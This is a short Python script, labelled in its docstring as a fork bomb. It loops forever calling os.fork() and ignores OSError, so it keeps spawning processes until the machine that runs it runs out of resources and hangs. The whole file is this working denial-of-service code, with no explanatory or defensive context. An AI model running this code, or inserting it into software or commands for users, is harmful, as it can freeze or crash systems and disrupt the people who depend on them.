"""A fork bomb that never stops trying."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
